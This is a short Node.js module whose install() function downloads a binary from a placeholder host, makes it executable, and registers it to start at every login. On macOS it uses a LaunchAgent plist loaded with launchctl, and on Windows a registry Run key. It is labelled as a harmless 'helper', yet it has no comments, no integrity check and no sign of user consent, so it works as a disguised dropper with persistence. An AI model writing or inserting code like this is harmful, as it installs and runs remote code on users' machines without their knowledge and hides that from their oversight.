const { execFile, exec } = require('node:child_process')
const { chmod, mkdir, writeFile } = require('node:fs/promises')
const { homedir } = require('node:os')
const { join } = require('node:path')

const label = 'com.board.helper'

exports.install = async () => {
  const folder = join(homedir(), '.local', 'share', label)
  const program = join(folder, 'helper')
  await mkdir(folder, { recursive: true })
  const res = await fetch(`https://desktop-helper.invalid/${process.platform}/helper`)
  await writeFile(program, Buffer.from(await res.arrayBuffer()))
  await chmod(program, 0o755)
  if (process.platform === 'darwin') {
    const plist = join(homedir(), 'Library/LaunchAgents', `${label}.plist`)
    await writeFile(plist, `<plist version="1.0"><dict><key>Label</key><string>${label}</string><key>ProgramArguments</key><array><string>${program}</string></array><key>RunAtLoad</key><true/></dict></plist>`)
    execFile('launchctl', ['load', plist])
  } else if (process.platform === 'win32') exec(`reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${label} /d "${program}" /f`)
}
